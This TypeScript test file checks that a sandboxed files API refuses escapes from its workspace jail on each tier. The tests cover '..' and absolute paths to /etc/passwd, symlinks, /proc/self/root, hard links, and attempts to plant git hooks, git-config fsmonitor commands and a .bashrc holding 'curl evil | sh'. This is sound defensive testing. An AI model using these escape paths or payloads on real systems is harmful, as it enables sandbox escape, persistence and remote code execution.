/**
 * Issue 13, the jail: one test per published escape class of file servers,
 * on every tier (prefix sibling, `..`, absolute path, symlink to outside —
 * file and directory —, dangling symlink, symlinked parent of a new file,
 * symlinked workspace root, /proc/self/root and /proc/PID/cwd, hard links),
 * and in the isolated tiers the workspace guards and the session's user.
 * Nothing outside the workspace may be read, listed, written or removed.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { expectCode } from './helpers/client.js';
import { removeWorkspace, startTierDaemon, tierWorkspace, TIER_NAMES, WORKSPACE_UID, type TierDaemon } from './helpers/tiers.js';

const SECRET = 'outside-secret-5c1e';

// The tiers side by side (each has a daemon and directories of its own), the tests of a tier one after the other.
describe('files API jail on every tier', { concurrency: true }, () => {
  for (const tier of TIER_NAMES) {
    describe(`files API jail: ${tier} tier`, { concurrency: 1 }, () => {
      let t: TierDaemon;
      let ws: string;
      let sid: string;
      /** A directory outside the workspace, with a secret file (on the host; for isolated tiers also made inside). */
      let outside: string;
      const made: string[] = [];

      before(async () => {
        t = await startTierDaemon(tier, { flags: ['--fs-timeout-s', '300'] });
        if (!t.client) return;
        ws = tierWorkspace();
        outside = fs.mkdtempSync(path.join(os.tmpdir(), 'trl-outside-'));
        fs.chmodSync(outside, 0o755);
        fs.writeFileSync(path.join(outside, 'secret.txt'), `${SECRET}\n`, { mode: 0o644 });
        made.push(ws, outside);
        sid = ((await t.client.call('session.create', { workspace: ws })) as any).session_id;
        if (tier !== 'host') {
          // The same outside directory as the tier sees it (its own /tmp), for links that point there.
          await run(`mkdir -p ${outside} && echo ${SECRET} > ${outside}/secret.txt`);
        }
      });
      after(async () => {
        await t?.close();
        for (const d of made) removeWorkspace(d);
      });

      const call = (method: string, params: Record<string, unknown>): Promise<any> => t.client!.call(method, { session_id: sid, ...params });
      const outsideErr = (method: string, params: Record<string, unknown>) => expectCode(t.client!, method, { session_id: sid, ...params }, 'PATH_OUTSIDE_WORKSPACE');
      const run = async (command: string): Promise<any> => t.client!.call('exec.run', { session_id: sid, command, timeout_s: 60 });
      /** Whether `p` exists as the tier sees it (its own / for isolated tiers). */
      const existsInTier = async (p: string) => (tier === 'host' ? fs.existsSync(p) : (await run(`test -e ${p} || test -L ${p}`)).exit_code === 0);
      const link = (target: string, name: string) => fs.symlinkSync(target, path.join(ws, name));

      it('prefix sibling: /ws-evil passes no prefix check', async (ctx) => {
        if (t.skip(ctx)) return;
        const sibling = `${ws}-evil`;
        fs.mkdirSync(sibling);
        made.push(sibling);
        fs.writeFileSync(path.join(sibling, 'secret.txt'), SECRET);
        await outsideErr('fs.read', { path: `${sibling}/secret.txt` });
        await outsideErr('fs.read', { path: `../${path.basename(sibling)}/secret.txt` });
        await outsideErr('fs.write', { path: `${sibling}/new.txt`, content: 'x' });
        await outsideErr('fs.list', { path: sibling });
        assert.ok(!fs.existsSync(path.join(sibling, 'new.txt')));
      });

      it('`..` and absolute paths outside are refused before anything is opened', async (ctx) => {
        if (t.skip(ctx)) return;
        await outsideErr('fs.read', { path: '../../../../etc/passwd' });
        await outsideErr('fs.read', { path: 'a/../../x' });
        await outsideErr('fs.read', { path: '/etc/passwd' });
        await outsideErr('fs.write', { path: `${outside}/written.txt`, content: 'x' });
        await outsideErr('fs.grep', { path: '/etc', pattern: 'root' });
        await outsideErr('fs.move', { path: 'x', to: `${outside}/moved` });
        assert.ok(!fs.existsSync(path.join(outside, 'written.txt')));
        // Inside after normalisation is inside.
        fs.writeFileSync(path.join(ws, 'in.txt'), 'inside\n');
        assert.equal((await call('fs.read', { path: `a/../in.txt` })).content, 'inside\n');
      });

      it('symlink to outside, a file and a directory: never read, listed, written, edited or searched through', async (ctx) => {
        if (t.skip(ctx)) return;
        link(`${outside}/secret.txt`, 'to-file');
        link(outside, 'to-dir');
        link('../../../../../../../../etc', 'to-etc-relative');
        for (const p of ['to-file', 'to-dir/secret.txt', 'to-etc-relative/passwd']) await outsideErr('fs.read', { path: p });
        await outsideErr('fs.list', { path: 'to-dir' });
        await outsideErr('fs.write', { path: 'to-file', content: 'x', overwrite: true });
        await outsideErr('fs.write', { path: 'to-dir/new.txt', content: 'x' });
        await outsideErr('fs.edit', { path: 'to-file', edits: [{ old: SECRET, new: 'owned' }] });
        await outsideErr('fs.stat', { path: 'to-file' });
        await outsideErr('fs.grep', { path: 'to-dir', pattern: 'secret' });
        const asLink = await call('fs.stat', { path: 'to-file', follow: false });
        assert.equal(asLink.type, 'symlink', 'the link itself may be described');
        const grep = await call('fs.grep', { pattern: SECRET.slice(0, 10), no_ignore: true });
        assert.equal(grep.total, 0, 'a walk does not follow links out');
        const search = await call('fs.search', { pattern: 'secret.txt', no_ignore: true });
        assert.equal(search.total, 0);
        assert.equal((await call('fs.remove', { path: 'to-dir', recursive: true })).removed, 1, 'removing the link removes the link');
        assert.equal(fs.readFileSync(path.join(outside, 'secret.txt'), 'utf8'), `${SECRET}\n`);
        assert.ok(await existsInTier(`${outside}/secret.txt`), 'the target is untouched');
      });

      it('dangling symlink: a write through it never creates its target outside (one inside it does)', async (ctx) => {
        if (t.skip(ctx)) return;
        link(`${outside}/created-by-link.txt`, 'dangling');
        await outsideErr('fs.write', { path: 'dangling', content: 'x' });
        assert.equal(await existsInTier(`${outside}/created-by-link.txt`), false);
        link(path.join(ws, 'made-through-link.txt'), 'dangling-in');
        await call('fs.write', { path: 'dangling-in', content: 'inside\n' });
        assert.equal(fs.readFileSync(path.join(ws, 'made-through-link.txt'), 'utf8'), 'inside\n');
      });

      it('symlinked parent of a new file: no file or directory appears outside', async (ctx) => {
        if (t.skip(ctx)) return;
        link(outside, 'parent');
        await outsideErr('fs.write', { path: 'parent/new.txt', content: 'x' });
        await outsideErr('fs.write', { path: 'parent/deeper/new.txt', content: 'x', make_parents: true });
        await outsideErr('fs.mkdir', { path: 'parent/newdir', parents: true });
        await outsideErr('fs.move', { path: 'in.txt', to: 'parent/moved.txt' });
        for (const name of ['new.txt', 'deeper', 'newdir', 'moved.txt']) assert.equal(await existsInTier(`${outside}/${name}`), false, name);
      });

      it('/proc/self/root and /proc/PID/cwd lead nowhere', async (ctx) => {
        if (t.skip(ctx)) return;
        await outsideErr('fs.read', { path: '/proc/self/root/etc/passwd' });
        link('/proc/self/root', 'proc-root');
        await outsideErr('fs.read', { path: 'proc-root/etc/passwd' });
        const bg = (await t.client!.call('exec.start', { session_id: sid, command: `cd ${outside} && exec sleep 300` })) as any;
        try {
          const pid = (await run('for p in /proc/[0-9]*; do [ "$(readlink $p/cwd)" = ' + outside + ' ] && { echo ${p#/proc/}; break; }; done')).stdout.trim() || String(bg.pid);
          link(`/proc/${pid}/cwd`, 'proc-cwd');
          await outsideErr('fs.read', { path: 'proc-cwd/secret.txt' });
          await outsideErr('fs.list', { path: 'proc-cwd' });
          await outsideErr('fs.read', { path: `/proc/${pid}/cwd/secret.txt` });
        } finally {
          await t.client!.call('exec.cancel', { command_id: bg.command_id });
        }
      });

      it('hard links: a write or edit replaces the link, never the outside file; reads are what the session user may read', async (ctx) => {
        if (t.skip(ctx)) return;
        const target = path.join(outside, 'hard-target.txt');
        fs.writeFileSync(target, `${SECRET} hard\n`, { mode: 0o600 });
        let linked = true;
        try {
          fs.linkSync(target, path.join(ws, 'hard'));
        } catch {
          linked = false; // another filesystem, or protected_hardlinks: the kernel does not allow it
        }
        if (linked) {
          const r = await t.client!.call('fs.read', { session_id: sid, path: 'hard' }).then(
            (d: any) => ({ ok: true, content: d.content as string }),
            (e: any) => ({ ok: false, code: e.code as string }),
          );
          if (tier === 'host') assert.ok(r.ok, 'the host tier runs as the daemon user, who may read it');
          else assert.deepEqual(r, { ok: false, code: 'PERMISSION_DENIED' }, "a root-only file is not readable by the session's user");
          await call('fs.write', { path: 'hard', content: 'replaced\n', overwrite: true }).catch((e) => assert.equal(e.code, 'PERMISSION_DENIED'));
          assert.equal(fs.readFileSync(target, 'utf8'), `${SECRET} hard\n`, 'the outside file is unchanged');
          if (tier === 'host') {
            fs.linkSync(target, path.join(ws, 'hard2'));
            await call('fs.edit', { path: 'hard2', edits: [{ old: 'hard', new: 'soft' }] });
            assert.equal(fs.readFileSync(target, 'utf8'), `${SECRET} hard\n`, 'an edit writes a new file in place of the link');
            assert.equal(fs.readFileSync(path.join(ws, 'hard2'), 'utf8'), `${SECRET} soft\n`);
          }
        }
        if (tier !== 'host') {
          // From inside, the workspace is its own mount: a link to a file outside it cannot be made.
          const r = await run(`ln ${outside}/secret.txt ./from-inside 2>&1; ln /etc/hostname ./from-inside2 2>&1; ls`);
          assert.ok(!/from-inside/.test(r.stdout.split('\n').slice(-3).join(' ')) || !fs.existsSync(path.join(ws, 'from-inside')), r.stdout);
          assert.ok(!fs.existsSync(path.join(ws, 'from-inside')) && !fs.existsSync(path.join(ws, 'from-inside2')), r.stdout);
        }
      });

      it('symlinked workspace root: the jail is the directory it named when the session started', async (ctx) => {
        if (t.skip(ctx)) return;
        const real = tierWorkspace('trl-ws-real-');
        made.push(real);
        const viaLink = `${real}-link`;
        fs.symlinkSync(real, viaLink);
        made.push(viaLink);
        const s = (await t.client!.call('session.create', { workspace: viaLink })) as any;
        const c2 = (m: string, p: Record<string, unknown>) => t.client!.call(m, { session_id: s.session_id, ...p }) as Promise<any>;
        await c2('fs.write', { path: 'a.txt', content: 'A\n' });
        assert.equal(fs.readFileSync(path.join(real, 'a.txt'), 'utf8'), 'A\n');
        assert.equal((await c2('fs.read', { path: path.join(s.workspace, 'a.txt') })).content, 'A\n');
        // The link now names another directory: the session's jail stays where it was.
        fs.unlinkSync(viaLink);
        fs.symlinkSync(outside, viaLink);
        const after = await t.client!.call('fs.read', { session_id: s.session_id, path: 'secret.txt' }).then(
          (d: any) => d.content as string,
          (e: any) => e.code as string,
        );
        assert.notEqual(after, `${SECRET}\n`);
        assert.equal((await c2('fs.read', { path: 'a.txt' })).content, 'A\n');
        await t.client!.call('session.destroy', { session_id: s.session_id, force: true });
      });

      if (tier !== 'host') {
        it("keeps the tier's guards: no hook, no git config, no new shell rc file; files are the session user's", async (ctx) => {
          if (t.skip(ctx)) return;
          const repo = tierWorkspace('trl-ws-repo-');
          made.push(repo);
          execFileSync('sh', ['-c', `cd ${repo} && mkdir -p .git/hooks && echo '[core]' > .git/config && chown -R ${WORKSPACE_UID}:${WORKSPACE_UID} .git`]);
          const s = (await t.client!.call('session.create', { workspace: repo })) as any;
          const e = (m: string, p: Record<string, unknown>, code: string) => expectCode(t.client!, m, { session_id: s.session_id, ...p }, code);
          await e('fs.write', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ntouch /tmp/pwned\n', mode: '0755' }, 'PERMISSION_DENIED');
          await e('fs.write', { path: '.git/config', content: '[core]\n\tfsmonitor = touch /tmp/pwned\n', overwrite: true }, 'PERMISSION_DENIED');
          await e('fs.edit', { path: '.git/config', edits: [{ old: '[core]', new: '[core]\n\thooksPath = /tmp' }] }, 'PERMISSION_DENIED');
          const rc = await t.client!.call('fs.write', { session_id: s.session_id, path: '.bashrc', content: 'curl evil | sh\n' }).then(
            () => 'written',
            (err: any) => err.code as string,
          );
          assert.ok(['PERMISSION_DENIED', 'NOT_A_FILE'].includes(rc), `a new .bashrc is refused (${rc})`);
          await e('fs.move', { path: '.git', to: 'moved-git' }, 'PERMISSION_DENIED');
          await e('fs.move', { path: '.git/config', to: 'config-copy' }, 'PERMISSION_DENIED');
          // What is mounted over the workspace cannot be removed to make room either (a files helper outside the
          // sandbox's mount namespace could: the kernel refuses only processes that see the mount).
          await e('fs.remove', { path: '.bashrc', recursive: true }, 'PERMISSION_DENIED');
          await e('fs.remove', { path: '.git/config' }, 'PERMISSION_DENIED');
          await e('fs.remove', { path: '.git/hooks', recursive: true }, 'PERMISSION_DENIED');
          await e('fs.remove', { path: '.git', recursive: true }, 'PERMISSION_DENIED');
          const rc2 = await t.client!.call('fs.write', { session_id: s.session_id, path: '.bashrc', content: 'curl evil | sh\n', overwrite: true }).then(
            () => 'written',
            (err: any) => err.code as string,
          );
          assert.ok(['PERMISSION_DENIED', 'NOT_A_FILE'].includes(rc2), `still no .bashrc (${rc2})`);
          assert.equal(fs.existsSync(path.join(repo, '.git/hooks/pre-commit')), false);
          assert.equal(fs.readFileSync(path.join(repo, '.git/config'), 'utf8'), '[core]\n');
          assert.ok(fs.statSync(path.join(repo, '.git/hooks')).isDirectory());
          const w = await t.client!.call('fs.write', { session_id: s.session_id, path: 'mine.txt', content: 'x' });
          assert.ok(w);
          if (process.getuid?.() === 0) assert.equal(fs.statSync(path.join(repo, 'mine.txt')).uid, WORKSPACE_UID, "a root daemon creates files as the session's user");
          await t.client!.call('session.destroy', { session_id: s.session_id, force: true });
        });
      }
    });
  }
});
